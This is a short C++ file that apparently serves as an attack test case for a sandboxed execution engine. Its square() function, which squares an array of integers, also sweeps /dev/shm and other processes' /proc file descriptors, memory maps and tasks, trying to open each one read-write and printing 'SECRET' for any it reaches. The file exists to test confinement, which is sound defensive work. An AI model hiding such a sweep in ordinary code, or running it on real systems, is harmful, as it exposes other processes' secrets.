// Attack: opens what the engine keeps in files: through /proc, /dev/shm and by number
// Verdict: any
// Stage: run
// Needs: confinement
#include "square_port.hpp"

#include <cstdio>
#include <dirent.h>
#include <fcntl.h>
#include <string>
#include <unistd.h>

static void open_all(const std::string& folder) {
    DIR* files = opendir(folder.c_str());
    while (const dirent* file = files ? readdir(files) : nullptr) {
        const std::string path = folder + "/" + file->d_name;
        const int opened = file->d_name[0] == '.' ? -1 : open(path.c_str(), O_RDWR | O_NONBLOCK);
        if (opened >= 0) std::printf("SECRET %s is open\n", path.c_str());
        if (opened >= 0) close(opened);
    }
    if (files) closedir(files);
}

void square(const std::int64_t* input, std::int64_t* output, std::size_t count) {
    void* pinned = nullptr;
    cudaMallocHost(&pinned, 1 << 20);
    open_all("/dev/shm");
    for (int process = 1; process < 1000; ++process)
        for (const char* part : {"/fd", "/map_files", "/task"})
            if (process != getpid()) open_all("/proc/" + std::to_string(process) + part);
    cudaFreeHost(pinned);
    for (std::size_t i = 0; i < count; ++i) output[i] = input[i] * input[i];
}
